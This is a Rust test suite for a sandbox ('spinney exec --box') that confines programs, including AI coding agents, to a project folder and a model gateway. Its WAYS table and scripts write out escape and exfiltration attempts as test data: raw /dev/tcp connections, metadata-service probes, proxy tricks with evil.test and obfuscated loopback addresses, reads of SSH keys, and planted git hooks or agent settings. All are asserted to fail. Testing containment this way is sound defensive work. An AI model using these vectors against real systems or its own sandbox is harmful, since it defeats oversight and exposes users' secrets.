//! `spinney exec --box`: a program that has its folder, the gateway and the hosts that it was granted, and nothing else of
//! the user. A token of output costs a tenth of a cent.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::UnixListener;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use serde_json::json;

use crate::exec::{CALLS, lives, nap, nap_seconds, until_gone, used};
use crate::pty::Pty;
use crate::test_folder::{Ended, Playing, TestFolder};
use crate::upstream::Upstream;

const USER_KEY: &str = "sk-the-users-own-key-0123456789";

/// A user with a home folder and a project in it, which is a repository.
struct User {
    stage: TestFolder,
    upstream: Upstream,
}

impl User {
    fn new() -> Self {
        let stage = TestFolder::new();
        for folder in
            ["project/.git/hooks", "project/.git/objects", "project/.git/refs", "project/src", ".ssh"]
        {
            fs::create_dir_all(stage.folder().join(folder)).unwrap();
        }
        for (file, text) in [
            ("project/.git/config", "[core]\n"),
            ("project/.git/HEAD", "ref: refs/heads/main\n"),
            (".ssh/id_ed25519", "the secret\n"),
            (".bashrc", "the secret\n"),
        ] {
            fs::write(stage.folder().join(file), text).unwrap();
        }
        Self { stage, upstream: Upstream::new(vec![used(100)]) }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.stage.folder().join(name)
    }

    fn text(&self, name: &str) -> String {
        fs::read_to_string(self.path(name)).unwrap()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_spinney"));
        for name in ["CLAUDE_CONFIG_DIR", "CODEX_HOME", "OPENAI_API_KEY", "SPINNEY_HOME", "SPINNEY_LOG"] {
            command.env_remove(name);
        }
        command.args(args).envs(self.stage.user_folders()).current_dir(self.path("project"));
        command.env("HOME", self.stage.folder()).stdin(Stdio::null());
        command.env("ANTHROPIC_API_KEY", USER_KEY).env("ANTHROPIC_BASE_URL", &self.upstream.url);
        command
    }

    fn ends(&self, args: &[&str]) -> Ended {
        Ended::from(self.command(args).output().unwrap())
    }

    /// Runs a script in a box, with more options.
    fn boxed(&self, options: &[&str], script: &str) -> Playing {
        let words = boxed_words(options, script);
        TestFolder::started(self.command(&words.iter().map(String::as_str).collect::<Vec<_>>()))
    }

    fn boxed_on_terminal(&self, options: &[&str], script: &str) -> Pty {
        let words = boxed_words(options, script);
        Pty::start(&self.command(&words.iter().map(String::as_str).collect::<Vec<_>>()), 80, 24)
    }

    /// A program of the user, in `PATH`.
    fn install(&self, name: &str, script: &str) -> String {
        let folder = self.path("tools/bin");
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join(name), format!("#!/bin/bash\n{script}\n")).unwrap();
        fs::set_permissions(folder.join(name), fs::Permissions::from_mode(0o755)).unwrap();
        format!("{}:/usr/local/bin:/usr/bin:/bin", folder.display())
    }
}

fn boxed_words(options: &[&str], script: &str) -> Vec<String> {
    let script = format!("{CALLS}\n{}", script.replace("NAP", &nap_seconds()));
    let mut words = vec!["exec", "--box", "--price", "m=0,1000"];
    words.extend(options);
    words.extend(["--", "bash", "-c", &script]);
    words.into_iter().map(str::to_owned).collect()
}

/// G23: a program in a box works in its folder and calls its model through the gateway. The home of its run with the
/// control socket, the state folder and the user's files are not there, and nothing in the folder changes that runs later.
#[test]
fn g23_a_program_in_a_box_has_its_folder_and_the_gateway_and_nothing_else() {
    let user = User::new();
    let script = r#"
call 100 hello
echo made > src/made.txt
ls -A .spinney
echo home: $(ls -A ~)
cat ~/.ssh/id_ed25519
(echo evil > .git/hooks/pre-commit) 2>&1
(echo evil >> .git/config) 2>&1
mkdir .vscode/x 2>&1
ls -A "$XDG_STATE_HOME" "$XDG_CONFIG_HOME" 2>&1
echo $HOME
"#;
    let Ended { code, out, err } = user.boxed(&[], script).end();
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("used 100"), "{out}");
    assert_eq!(user.text("project/src/made.txt"), "made\n");
    assert!(err.contains("id_ed25519: No such file"), "{err}");
    assert!(!out.contains("the secret"), "{out}");
    assert!(!user.path("project/.git/hooks/pre-commit").exists());
    assert_eq!(user.text("project/.git/config"), "[core]\n");
    assert_eq!(out.matches("Read-only file system").count(), 3, "{out}{err}");
    assert!(out.contains("\nhome: project\n"), "{out}");
    assert!(out.contains(&format!("\n{}\n", user.stage.folder().display())), "{out}");
    // What took the protected names is gone, and the run is in the home.
    let kept: Vec<_> =
        fs::read_dir(user.path("project")).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(kept.len(), 3, "{kept:?}");
    assert_eq!(user.ends(&["ps", "--json"]).json()[0]["state"], json!("completed"));
}

/// Shells start processes while signals of others arrive: none of that fails in a box.
#[test]
fn a_shell_in_a_box_starts_every_process() {
    let user = User::new();
    let script =
        "for round in $(seq 150); do sh -c 'true | true | true' 2>&1 || echo failed; done; echo done";
    let Ended { out, err, .. } = user.boxed(&[], script).end();
    assert_eq!(out.trim(), "done", "{out}{err}");
}

/// Servers of the machine that nothing in a box may reach, and how often they were.
fn forbidden() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let reached = Arc::<AtomicUsize>::default();
    let count = Arc::clone(&reached);
    thread::spawn(move || {
        for client in listener.incoming() {
            count.fetch_add(1, Ordering::SeqCst);
            let mut client = client.unwrap();
            let _ = client.read(&mut [0; 1_024]);
            let _ = client.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nthe secret");
        }
    });
    (port, reached)
}

/// What a shell tries in a box, and a part of what it reads then. `PORT` is a server of the machine.
const WAYS: [(&str, &str, &str); 62] = [
    // That everything else is stopped means something only because this is not.
    ("the gateway", "call 100 x | grep -o 'used 100'", "used 100"),
    ("the gateway without its key", "key= ; plain $gateway / 'x-api-key: wrong'", "HTTP/1.1 4"),
    // By address.
    ("a service of this machine", "tcp 127.0.0.1 PORT", "Connection refused"),
    ("a service by name", "tcp localhost PORT", "Connection refused"),
    ("a service over version 6", "tcp ::1 PORT", "Connection refused"),
    ("a service at a mapped address", "tcp ::ffff:127.0.0.1 PORT", "Connection refused"),
    ("a service at the address of the machine", "tcp OWN PORT", "Network is unreachable"),
    ("any address", "tcp 0.0.0.0 PORT", "Connection refused"),
    ("an address", "tcp 93.184.216.34 443", "Network is unreachable"),
    ("an address of version 6", "tcp 2606:4700::1 443", "Network is unreachable"),
    ("a private address", "tcp 10.0.0.1 80", "Network is unreachable"),
    ("the metadata service", "tcp 169.254.169.254 80", "Network is unreachable"),
    ("a link-local address", "tcp fe80::1 80", "Invalid argument"),
    ("another port of the gateway's address", "tcp 127.0.0.1 1", "Connection refused"),
    // Without a connection.
    ("UDP to a name server", "udp 8.8.8.8 53", "Network is unreachable"),
    ("UDP to the machine", "udp OWN PORT", "Network is unreachable"),
    ("a name", "getent hosts example.com || echo no name", "no name"),
    ("a name as data", "getent hosts c2VjcmV0.example.com || echo no name", "no name"),
    // Through the proxy.
    ("another host", "proxied 'GET http://example.com/ HTTP/1.1\\r\\nHost: example.com'", "granted here is"),
    ("a tunnel", "proxied 'CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com:443'", "granted here is"),
    (
        "a tunnel to an address",
        "proxied 'CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: 127.0.0.1:PORT'",
        "granted here is",
    ),
    (
        "a tunnel to version 6",
        "proxied 'CONNECT [::1]:PORT HTTP/1.1\\r\\nHost: [::1]:PORT'",
        "granted here is",
    ),
    (
        "a tunnel to a mapped address",
        "proxied 'CONNECT [::ffff:127.0.0.1]:PORT HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]:PORT'",
        "granted here is",
    ),
    (
        "a tunnel to metadata",
        "proxied 'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: 169.254.169.254:80'",
        "granted here is",
    ),
    (
        "loopback through the proxy",
        "proxied 'GET http://127.0.0.1:PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:PORT'",
        "granted here is",
    ),
    (
        "localhost through the proxy",
        "proxied 'GET http://localhost:PORT/ HTTP/1.1\\r\\nHost: localhost:PORT'",
        "granted here is",
    ),
    (
        "loopback as a number",
        "proxied 'GET http://2130706433:PORT/ HTTP/1.1\\r\\nHost: 2130706433:PORT'",
        "not a host",
    ),
    (
        "two hosts",
        "proxied 'GET http://granted.test/ HTTP/1.1\\r\\nHost: granted.test\\r\\nHost: evil.test'",
        "is there twice",
    ),
    (
        "another host in the header",
        "proxied 'GET http://granted.test/ HTTP/1.1\\r\\nHost: evil.test'",
        "is not its target",
    ),
    ("a request to the proxy itself", "proxied 'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:PORT'", "HTTP/1.1 4"),
    ("the gateway as a proxy", "plain $gateway http://127.0.0.1:PORT/ 'x: y'", "HTTP/1.1 4"),
    (
        "a tunnel through the gateway",
        "at $gateway 'CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: 127.0.0.1:PORT'",
        "HTTP/1.1 4",
    ),
    (
        "a name below a granted one",
        "proxied 'GET http://x.granted.test/ HTTP/1.1\\r\\nHost: x.granted.test'",
        "granted here is",
    ),
    (
        "a socket for the web to another host",
        "proxied 'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade'",
        "granted here is",
    ),
    ("HTTP/2 to the proxy", "proxied 'PRI * HTTP/2.0\\r\\n\\r\\nSM'", "HTTP/1.1 505"),
    (
        "a user in a tunnel's address",
        "proxied 'CONNECT granted.test@evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443'",
        "HTTP/1.1 4",
    ),
    (
        "loopback in octal",
        "proxied 'GET http://0177.0.0.1:PORT/ HTTP/1.1\\r\\nHost: 0177.0.0.1:PORT'",
        "HTTP/1.1 4",
    ),
    (
        "loopback in hexadecimal",
        "proxied 'GET http://0x7f000001:PORT/ HTTP/1.1\\r\\nHost: 0x7f000001:PORT'",
        "HTTP/1.1 4",
    ),
    // Files of the user.
    ("a key", "cat ~/.ssh/id_ed25519 2>&1", "No such file"),
    ("a start-up file", "cat ~/.bashrc 2>&1", "No such file"),
    ("a start-up file that is left", "echo evil > ~/.bashrc; echo thrown away", "thrown away"),
    ("files of others", "ls /root /home /var /srv /opt 2>&1 | head -1", "No such file"),
    ("a link to a key", "ln -s $HOME/.ssh/id_ed25519 link; cat link 2>&1; rm link", "No such file"),
    (
        "sockets of the machine",
        "ls /run/docker.sock /var/run/docker.sock /run/user /run/dbus 2>&1 | head -1",
        "No such file",
    ),
    ("processes of the machine", "cat /proc/PARENT/environ 2>&1", "No such file"),
    ("the memory of the machine", "cat /dev/mem 2>&1", "No such file"),
    ("inherited descriptors", "ls /proc/self/fd | tr '\\n' ' ' ; echo", "0 1 2 3 "),
    // What would run outside later.
    ("a hook", "(echo evil > .git/hooks/pre-commit) 2>&1", "Read-only"),
    ("settings of git", "git config core.fsmonitor ./evil 2>&1", "Read-only"),
    ("another repository in its place", "mv .git .old 2>&1", "busy"),
    ("settings of an editor", "(echo evil > .vscode/tasks.json) 2>&1", "Read-only"),
    ("settings of an agent", "(echo evil > .claude/settings.json) 2>&1", "Read-only"),
    ("servers of an agent", "(echo evil > .mcp.json) 2>&1", "directory"),
    ("settings of a build tool", "(echo evil > .cargo/config.toml) 2>&1", "Read-only"),
    ("plugins of another agent", "mkdir .opencode/plugin 2>&1", "Read-only"),
    ("variables of a folder", "rmdir .envrc 2>&1", "busy"),
    // Ours.
    ("the home", "ls -A .spinney; (echo x > .spinney/x) 2>&1", "Read-only"),
    ("the control socket", "ls .spinney/runs/*/*sock* .spinney/*sock* 2>&1", "No such file"),
    (
        "another home's socket",
        "ls -A other/.spinney; echo; ls other/.spinney/control.sock 2>&1",
        "No such file",
    ),
    ("a raise", "SPINNEY budget last --add-usd 5 2>&1", "spinney:"),
    ("a namespace", "unshare -Ur true 2>&1", "not permitted"),
    ("a mount", "mount -t tmpfs none /tmp 2>&1", "mount"),
];

/// How the ways are tried: bash connects by itself.
const TRIES: &str = r#"
gateway=${ANTHROPIC_BASE_URL#http://}
proxy=${HTTP_PROXY#http://}
tcp() { (exec 3<>/dev/tcp/$1/$2 && printf 'GET / HTTP/1.1\r\n\r\n' >&3 && head -c 200 <&3) 2>&1; }
udp() { (exec 3<>/dev/udp/$1/$2 && printf x >&3) 2>&1; }
at() { (exec 3<>/dev/tcp/${1%:*}/${1#*:}; printf "$2"'\r\n\r\n' >&3; head -c 600 <&3) 2>&1; }
proxied() { at $proxy "$1"; }
plain() { at $1 "GET $2 HTTP/1.1\r\nHost: $1\r\nConnection: close\r\n$3"; }
"#;

/// X6, G23, G26: ways out by a shell. Each says what stopped it, and none reaches anything.
#[test]
fn no_way_leads_out_of_the_box_of_a_program() {
    let user = User::new();
    fs::create_dir_all(user.path("project/other/.spinney")).unwrap();
    let _socket = UnixListener::bind(user.path("project/other/.spinney/control.sock")).unwrap();
    let (port, reached) = forbidden();
    let own = own_address();
    let binary = env!("CARGO_BIN_EXE_spinney");
    let mut script = TRIES.to_owned();
    for (at, (_, way, _)) in WAYS.iter().enumerate() {
        let way = way
            .replace("PORT", &port.to_string())
            .replace("OWN", &own)
            .replace("PARENT", &std::process::id().to_string())
            .replace("SPINNEY", binary);
        script += &format!("echo '<{at}>'; {{ {way}; }} < /dev/null\necho '</{at}>'\n");
    }
    let options = ["--budget-usd", "1", "--allow-host", "granted.test", "--read", binary];
    let Ended { code, out, err } = user.boxed(&options, &script).end();
    assert_eq!(code, Some(0), "{out}{err}");
    let mut wrong = Vec::new();
    for (at, (name, _, told)) in WAYS.iter().enumerate() {
        let said =
            out.split_once(&format!("<{at}>\n")).and_then(|(_, rest)| rest.split_once(&format!("</{at}>")));
        let said = said.map(|(said, _)| said).unwrap_or_default();
        if !said.contains(told) || said.contains("the secret") {
            wrong.push(format!("{name}: {said}"));
        }
    }
    assert!(wrong.is_empty(), "{}\n{err}", wrong.join("\n"));
    assert_eq!(reached.load(Ordering::SeqCst), 0);
    // What is left of it.
    assert_eq!(user.text(".bashrc"), "the secret\n");
    assert_eq!(user.text("project/.git/config"), "[core]\n");
    assert!(!user.path("project/.git/hooks/pre-commit").exists());
    assert!(!user.path("project/.vscode").exists());
    assert!(err.contains("the box refused connections to example.com:80"), "{err}");
    // Each of them is in the journal of the run.
    let events = user.ends(&["events", "--json"]).out;
    let connected = |line: &&str| line.contains("\"type\":\"program_connected\"");
    let recorded: Vec<&str> = events.lines().filter(connected).collect();
    assert!(recorded.len() > 10, "{events}");
    assert!(
        recorded
            .iter()
            .any(|line| line.contains("\"host\":\"example.com\"")
                && line.contains("\"refused\":\"not_granted\"")),
        "{recorded:?}"
    );
    assert!(err.contains("of $1.00"), "it was not raised: {err}");
}

/// An address of this machine that is not loopback; a public one if it has none.
fn own_address() -> String {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let found = socket.connect("93.184.216.34:9").and_then(|()| socket.local_addr());
    found.map_or_else(|_| "93.184.216.35".to_owned(), |address| address.ip().to_string())
}

/// A program in a box has a terminal of its own with the size of the person's, Ctrl-C interrupts it, and it begins sessions.
#[test]
fn a_program_in_a_box_has_a_terminal() {
    let user = User::new();
    let script = r#"
tty; stty size; [ -t 0 ] && [ -t 2 ] && echo all
trap 'echo size: $(stty size)' WINCH
trap 'echo interrupted; stop=1' INT
setsid sh -c 'echo session'
read -r line < /dev/tty; echo "read $line"
echo ready
until [ "$stop" ]; do sleep 0.01; done
echo finished
"#;
    let mut terminal = user.boxed_on_terminal(&[], script);
    let shown = terminal.until("session");
    for part in ["/dev/pts/0", "24 80", "all"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    terminal.send("a line\r");
    terminal.until("read a line");
    terminal.until("ready");
    terminal.resize(100, 30);
    terminal.until("size: 30 100");
    terminal.send("\u{3}");
    terminal.until("interrupted");
    let shown = terminal.until("look at it with: spinney events");
    assert!(shown.contains("finished"), "{shown}");
    let ended = terminal.end();
    assert_eq!(ended.code, Some(130), "{}", ended.out);
}

/// What a program in a box has started ends with it, and with our process, even a session of its own.
#[test]
fn a_killed_run_leaves_nothing_of_its_box() {
    let user = User::new();
    let script =
        "setsid sh -c 'trap \"\" TERM INT HUP; sleep NAP' & \nsetsid sleep NAP &\necho started\nwait";
    let mut running = user.boxed(&[], script);
    running.until("started");
    running.kill();
    until_gone(&nap());
    // The same by a signal that it can handle, and at the end of the program.
    let mut running = user.boxed(&[], script);
    running.until("started");
    running.signal("TERM");
    assert_eq!(running.end().code, Some(130));
    assert!(!lives(&nap()));
    let ended = user.boxed(&[], "setsid sleep NAP &\necho done").end();
    assert_eq!(ended.code, Some(0), "{}", ended.err);
    assert!(!lives(&nap()));
}

/// A run is resumed in the box that it was started in, with what it was granted, and nothing takes the box away.
#[test]
fn a_resumed_run_has_the_same_box() {
    let user = User::new();
    fs::write(user.path("notes.txt"), "notes\n").unwrap();
    let notes = user.path("notes.txt").display().to_string();
    let script =
        "cat ~/notes.txt ~/.ssh/id_ed25519; echo committed > .git/x; echo started; [ -e again ] || sleep NAP";
    let mut running = user.boxed(&["--read", &notes, "--allow-git"], script);
    running.until("started");
    running.kill();
    until_gone(&nap());
    assert_eq!(user.text("project/.git/x"), "committed\n");
    fs::remove_file(user.path("project/.git/x")).unwrap();
    fs::write(user.path("project/again"), "").unwrap();
    let Ended { code, out, err } = user.ends(&["exec", "--resume", "last"]);
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("notes\n") && !out.contains("the secret"), "{out}");
    assert_eq!(user.text("project/.git/x"), "committed\n");
    let explained = user.ends(&["exec", "--explain", "--box", "--read", &notes, "--", "true"]);
    assert!(explained.out.contains(&notes), "{}", explained.out);
}

/// What would not be a box is refused before anything starts, with what helps.
#[test]
fn a_box_is_refused_where_it_would_hide_nothing() {
    let user = User::new();
    let refused = |folder: &str, args: &[&str], part: &str| {
        let ended = user.command(args).current_dir(user.path(folder)).output().unwrap();
        let ended = Ended::from(ended);
        assert_ne!(ended.code, Some(0), "{args:?}");
        assert!(
            ended.err.contains(part) && !ended.out.contains("ran"),
            "{args:?}: {}{}",
            ended.out,
            ended.err
        );
        assert!(!user.path(folder).join(".spinney/runs").exists(), "{args:?}");
    };
    let home = user.stage.folder().display().to_string();
    refused(".", &["exec", "--box", "--", "echo", "ran"], "the box would contain your home folder");
    refused("project/.git", &["exec", "--box", "--", "echo", "ran"], "in `.git`");
    refused("project", &["exec", "--box", "--read", &home, "--", "echo", "ran"], "your home folder");
    refused(
        "project",
        &["exec", "--box", "--read", "missing", "--", "echo", "ran"],
        "`missing` cannot be read",
    );
    let own = ["exec", "--box", "--", "codex", "-s", "read-only", "exec", "ran"];
    refused("project", &own, "chooses a sandbox of codex");
    refused("project", &["exec", "--read", ".", "--", "echo", "ran"], "add --box");
    refused("project", &["exec", "--allow-git", "--", "echo", "ran"], "add --box");
    let state = user.path("user/state").display().to_string();
    fs::create_dir_all(user.path("user/state/spinney")).unwrap();
    refused(
        "project",
        &["exec", "--box", "--read", &format!("{state}/spinney"), "--", "echo", "ran"],
        "what Spinney keeps",
    );
}

/// Claude Code in a box: its settings can be read and not be changed for good, its history stays, its login is not there.
#[test]
fn the_configuration_of_a_known_program_is_kept_and_its_history_is_written() {
    let user = User::new();
    for folder in [".claude/commands", ".claude/shell-snapshots"] {
        fs::create_dir_all(user.path(folder)).unwrap();
    }
    for (file, text) in [
        (".claude.json", r#"{"theme":"dark","primaryApiKey":"sk-ant-0123456789"}"#),
        (".claude/settings.json", r#"{"hooks":{}}"#),
        (".claude/.credentials.json", "the login"),
        (".claude/commands/go.md", "Go.\n"),
        (".claude/shell-snapshots/one.sh", "echo outside\n"),
    ] {
        fs::write(user.path(file), text).unwrap();
    }
    let path = user.install(
        "claude",
        r#"
cat ~/.claude.json; echo; cat ~/.claude/settings.json ~/.claude/commands/go.md
cat ~/.claude/.credentials.json 2>&1
echo '{"hooks":{"Stop":"evil"}}' > ~/.claude/settings.json; echo '{}' > ~/.claude.json.new; mv ~/.claude.json.new ~/.claude.json
(echo evil > ~/.claude/commands/evil.md) 2>&1
mkdir -p ~/.claude/projects/p ~/.claude/shell-snapshots && echo turn > ~/.claude/projects/p/session.jsonl
echo evil > ~/.claude/shell-snapshots/one.sh
echo asked >> ~/.claude/history.jsonl
cat "$2" | grep -o '"sandbox":{[^}]*}'
"#,
    );
    let mut command = user.command(&["exec", "--box", "--", "claude"]);
    let Ended { code, out, err } = Ended::from(command.env("PATH", path).output().unwrap());
    assert_eq!(code, Some(0), "{out}{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[..3], [r#"{"theme":"dark"}"#, r#"{"hooks":{}}Go."#, lines[2]], "{out}");
    assert!(lines[2].contains("No such file") && out.contains("Read-only file system"), "{out}");
    assert!(out.contains(r#""sandbox":{"enabled":false}"#), "{out}");
    assert_eq!(user.text(".claude.json"), r#"{"theme":"dark","primaryApiKey":"sk-ant-0123456789"}"#);
    assert_eq!(user.text(".claude/settings.json"), r#"{"hooks":{}}"#);
    assert_eq!(user.text(".claude/shell-snapshots/one.sh"), "echo outside\n");
    assert!(!user.path(".claude/commands/evil.md").exists());
    assert_eq!(user.text(".claude/projects/p/session.jsonl"), "turn\n");
    assert_eq!(user.text(".claude/history.jsonl"), "asked\n");
}

/// G23: what a program makes in its folder that would run outside later is switched off and named when it has ended, and so
/// are programs in a folder of `PATH`.
#[test]
fn g23_what_would_run_later_is_switched_off() {
    let user = User::new();
    fs::create_dir_all(user.path("project/.venv/bin")).unwrap();
    let script = r#"
mkdir -p sub/bare; cd sub/bare; mkdir objects refs; echo x > HEAD; printf '[core]\nfsmonitor=./evil\n' > config; cd ../..
mkdir -p sub/linked/.git/hooks; echo x > sub/linked/.git/HEAD; echo evil > sub/linked/.git/hooks/post-checkout
echo '{}' > opencode.json
echo evil > .venv/bin/ls
(mkdir .cargo/x) 2>&1
"#;
    let words = boxed_words(&[], script);
    let mut command = user.command(&words.iter().map(String::as_str).collect::<Vec<_>>());
    command.env("PATH", format!("{}:/usr/bin:/bin", user.path("project/.venv/bin").display()));
    let Ended { out, err, .. } = Ended::from(command.output().unwrap());
    for path in ["sub/bare/HEAD", "sub/linked/.git/HEAD", "opencode.json"] {
        let path = user.path("project").join(path);
        assert!(!path.exists(), "{out}{err}");
        assert!(user.path(&format!("{}.disabled", path.display())).exists(), "{out}{err}");
        assert!(err.contains(&path.display().to_string()), "{err}");
    }
    assert!(err.contains("with `.disabled` at their end"), "{err}");
    assert!(err.contains(".venv/bin"), "{err}");
    assert!(out.contains("Read-only file system"), "{out}");
}

/// G23: sockets in what a program may read are not there, and what would make its own settings or the repository writable is
/// refused.
#[test]
fn g23_sockets_and_second_names_lead_nowhere() {
    let user = User::new();
    fs::create_dir_all(user.path("shown/1/2/3/4/5")).unwrap();
    let socket = user.path("shown/1/2/3/4/5/agent.sock");
    let _listener = UnixListener::bind(&socket).unwrap();
    let shown = user.path("shown").display().to_string();
    let script = format!("[ -S {0} ] && echo socket; [ -e {0} ] && echo there", socket.display());
    let Ended { out, err, .. } = user.boxed(&["--read", &shown], &script).end();
    assert_eq!(out.trim(), "there", "{err}");
    let refused = |part: &str, command: &mut Command| {
        let ended = Ended::from(command.output().unwrap());
        assert!(ended.code != Some(0) && ended.err.contains(part), "{part}: {}{}", ended.out, ended.err);
        assert!(!ended.out.contains("ran"), "{}", ended.out);
    };
    let socket = socket.display().to_string();
    let named = ["exec", "--box", "--read", &socket, "--", "echo", "ran"];
    refused("a socket", &mut user.command(&named));
    let path = user.install("codex", "echo ran");
    fs::create_dir_all(user.path("project/home")).unwrap();
    let mut codex = user.command(&["exec", "--box", "--", "codex"]);
    codex.env("PATH", path).env("CODEX_HOME", user.path("project/home")).env("OPENAI_API_KEY", USER_KEY);
    refused("name one elsewhere in CODEX_HOME", &mut codex);
    fs::hard_link(user.path("project/.git/config"), user.path("project/src/second")).unwrap();
    refused("has another name", &mut user.command(&["exec", "--box", "--", "echo", "ran"]));
}
